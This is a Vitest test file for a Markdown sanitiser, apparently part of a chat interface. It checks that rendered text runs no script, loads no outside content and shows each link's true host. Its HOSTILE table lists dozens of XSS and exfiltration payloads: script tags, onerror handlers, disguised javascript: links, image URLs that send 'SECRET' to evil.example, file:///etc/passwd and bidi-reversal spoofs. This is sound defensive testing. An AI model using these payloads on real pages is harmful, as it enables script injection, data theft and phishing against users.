// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { decodeEntities, safeLink, safePicture } from "../../src/markdown/safe";
import { Drawn } from "./draw";

/** Every element and attribute that a text may become. Anything else on the page is a hole. */
const ELEMENTS = new Set(
  "div p span a bdi strong em del code pre br hr h3 blockquote ul ol li table thead tbody tr th td figure figcaption button svg path small input img".split(" "),
);
const ATTRIBUTES = new Set(
  ("class dir href target rel title start type checked disabled readonly aria-label aria-hidden tabindex role scope data-side " +
    "data-depth src alt width height viewbox fill stroke stroke-width stroke-linecap stroke-linejoin d").split(" "),
);
const OUTSIDE = /^(https?:|\/\/|ftp:|ws)/i;

/** Whether what is drawn runs nothing, fetches nothing, and leads nowhere but where it says. */
function harmless(drawn: Drawn): void {
  for (const element of drawn.all("*")) {
    expect(ELEMENTS, element.outerHTML).toContain(element.tagName.toLowerCase());
    for (const { name, value } of [...element.attributes]) {
      expect(ATTRIBUTES, `${name} of ${element.outerHTML}`).toContain(name.toLowerCase());
      expect(name.startsWith("on"), element.outerHTML).toBe(false);
      if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
      if (name === "href") expect(value).toMatch(/^(https?|mailto):/);
      if (!["href", "title"].includes(name)) expect(value, `${name} of ${element.outerHTML}`).not.toMatch(OUTSIDE);
    }
  }
  expect(drawn.element.textContent, "nothing turns the order of what is read").not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  for (const link of drawn.all("a")) {
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link.getAttribute("target")).toBe("_blank");
    const { protocol, host, pathname } = new URL(link.getAttribute("href")!);
    expect(link.textContent!.toLowerCase(), "the reader sees where it leads").toContain(protocol === "mailto:" ? pathname.toLowerCase() : host);
  }
}

const HOSTILE: Record<string, string> = {
  "a script": "<script>alert(1)</script>",
  "a script in a paragraph": "Hi <script src=https://evil.example/x.js></script> there",
  "a picture with a handler": "<img src=x onerror=alert(1)>",
  "a picture that carries data away": "![x](https://evil.example/?q=SECRET)",
  "a picture by reference": "![x][1]\n\n[1]: https://evil.example/?q=SECRET",
  "a picture by its own name": "![evil]\n\n[evil]: //evil.example/p.png",
  "a picture in a link": "[![x](https://evil.example/a.png)](https://evil.example/)",
  "a picture without a scheme": "![x](//evil.example/a.png)",
  "a picture from this very server": "![x](/api/sessions/?export=1)",
  "a picture in a table": "| a |\n|---|\n| ![x](https://evil.example/t.png) |",
  "an SVG as data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "a page as data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "a script as a link": "[x](javascript:alert(1))",
  "a script as a link, in capitals": "[x](JaVaScRiPt:alert(1))",
  "a script as a link, with entities": "[x](javascript&#58;alert(1)) [y](&#106;avascript&colon;alert(1))",
  "a script as a link, with a tab": "[x](java&Tab;script:alert(1)) [y](<java\tscript:alert(1)>)",
  "a script as an autolink": "<javascript:alert(1)>",
  "vbscript, file, blob": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://evil.example/1)",
  "a link to our own pages": "[x](/logout/) [y](../admin/) [z](?next=//evil.example) [h](#app)",
  "a link that looks like another": "[https://bank.example](https://evil.example/)",
  "a link that begins like another": "[evil.example.bank.example](https://evil.example/)",
  "a link with a name before its host": "[ours](https://chat.example@evil.example/)",
  "a link by reference": "[ours][r]\n\n[r]: https://evil.example 'onmouseover=alert(1)'",
  "a title that closes its attribute": '[x](https://evil.example "\\" onmouseover=alert(1) x=\\"")',
  "an iframe": '<iframe src="https://evil.example"></iframe>',
  "a style": "<style>@import 'https://evil.example/x.css'</style><p style='background:url(https://evil.example)'>",
  "a form": '<form action="https://evil.example"><input name=q><button>Sign in</button></form>',
  "MathML and SVG": "<math><mi xlink:href=javascript:alert(1)></math><svg onload=alert(1)><use href='https://evil.example/#x'/></svg>",
  "a link element": "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "a comment and a declaration": "<!-- <img src=x onerror=alert(1)> --><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
  "HTML in a fence's language": "```\"><img src=x onerror=alert(1)>\ncode\n```",
  "HTML in a list in a quote": "> - <b onclick=alert(1)>x</b>\n>   ![y](https://evil.example/z)",
  "an id that shadows the page's": '<a id="boot" name="app">x</a> <div id="app">y</div>',
  "entities that spell a tag": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  "words that turn the host around": "[\u202enI ngiS](https://moc.elgoog.evil.example/)",
  "words that turn the host around, with an entity": "[&#x202E;nI ngiS](https://moc.elgoog.evil.example/) \\&#8238;`&#x202e;x`",
  "an address to write to that turns itself around": "[write](mailto:a%E2%80%AEmoc.elpmaxe@evil.example)",
  "a line that turns all of it around": "\u202e\u2067[x](https://moc.elgoog.evil.example/)\u2069 ![\u202ey](https://evil.example/p.png)\n\n```\n\u202e;x\n```",
  "a nest that is very deep": `${">".repeat(60)} ${"[".repeat(60)}x${"](https://evil.example)".repeat(60)}`,
};

describe("a text that means harm", () => {
  it.each(Object.entries(HOSTILE))("is harmless: %s", (_, text) => harmless(new Drawn(text)));

  it.each(Object.entries(HOSTILE))("is harmless at every moment of its writing: %s", (_, text) => {
    const drawn = new Drawn();
    const step = Math.max(Math.floor(text.length / 60), 1);
    for (let end = 1; end <= text.length; end += step) harmless(drawn.write(text.slice(0, end)));
    harmless(drawn.write(text, false));
  });

  it.each(Object.entries(HOSTILE))("looks the same whether it came at once or in pieces: %s", (_, text) => {
    const pieces = new Drawn();
    for (let end = 1; end <= text.length; end += 3) pieces.write(text.slice(0, end), false);
    expect(pieces.write(text, false).html).toBe(new Drawn(text).html);
  }, 30_000);
});

describe("a picture from elsewhere", () => {
  it("is not there, but its host and a way to it are", () => {
    const drawn = new Drawn("![a chart](https://pictures.example/a.png?x=1)");
    expect(drawn.all("img")).toEqual([]);
    expect(drawn.element.textContent).toContain("a chart");
    expect(drawn.element.textContent).toContain("pictures.example");
  });

  it("is loaded on a click, in a frame of ours that may run nothing", () => {
    const drawn = new Drawn("![a chart](https://pictures.example/a.png?x=1&y=%22)");
    drawn.click("button");
    const [frame] = drawn.all("iframe");
    expect(frame!.getAttribute("src")).toBe(`/picture/?address=${encodeURIComponent("https://pictures.example/a.png?x=1&y=%22")}`);
    expect([frame!.getAttribute("sandbox"), frame!.getAttribute("referrerpolicy")]).toEqual(["", "no-referrer"]);
    expect(drawn.all("img, a")).toEqual([]);
  });

  it("is asked about again when its address has grown", () => {
    const drawn = new Drawn("![a](https://pictures.example/a)");
    drawn.click("button");
    drawn.write("![a](https://pictures.example/abc)", false);
    expect(drawn.all("iframe")).toEqual([]);
  });

  it("is there when it is in the text itself", () => {
    const drawn = new Drawn("![dot](data:image/png;base64,iVBORw0KGgo=)");
    expect(drawn.all("img").length).toBe(1);
  });
});

it("the host behind words stands beside them, in a direction of its own", () => {
  const [link] = new Drawn("See [שלום](https://evil.example/1) now").all("a");
  expect([...link!.childNodes].map((one) => [one.nodeName, one.textContent])).toEqual([["BDI", "שלום"], ["#text", " "], ["BDI", "(evil.example)"]]);
});

describe("what is meant well", () => {
  it("is drawn", () => {
    const drawn = new Drawn("# T\n\n**b** *i* `c` ~~d~~ <https://chat.example/a> a@chat.example\n\n- [x] t\n\n1. o\n\n> q\n\n| h |\n|--:|\n| c |\n\n```py\nx = 1 < 2\n```\n\n---");
    for (const selector of ["h3", "strong", "em", "code", "del", "a[href='https://chat.example/a']", "a[href^=mailto]", "li input[checked]", "ol li", "blockquote", "th[data-side=right]", "figure pre code", "hr"]) {
      expect(drawn.all(selector).length, selector).toBeGreaterThan(0);
    }
    expect(drawn.all("figure code")[0]!.textContent).toBe("x = 1 < 2");
    harmless(drawn);
  });

  it("keeps the characters that Markdown escapes", () => {
    expect(new Drawn("a &amp; b &lt; c \\* d &copy; &nope; `&amp;`").element.textContent).toBe("a & b < c * d © &nope; &");
  });
});

describe("addresses", () => {
  it.each(["javascript:alert(1)", " javascript:x", "data:text/html,x", "/api/", "//evil.example", "", "http://", "ftp://x", "\u0001javascript:x", "https:evil"])("%j is none or leads elsewhere by itself", (raw) => {
    const link = safeLink(raw);
    if (link) expect(link.href).toMatch(/^https:\/\/evil\//);
  });

  it("only pictures of pixels are taken from a text", () => {
    expect(safePicture("data:image/png;base64,AAAA")).not.toBeNull();
    for (const raw of ["data:image/svg+xml;base64,AAAA", "data:image/png,AAAA", "data:text/html;base64,AAAA", "data:image/png;base64,AA\"onerror=x"]) {
      expect(safePicture(raw)).toBeNull();
    }
  });

  it("entities that are no character are none", () => {
    expect(decodeEntities("&#0;&#xD800;&#x110000;&#65;")).toBe("\ufffd\ufffd\ufffdA");
  });
});
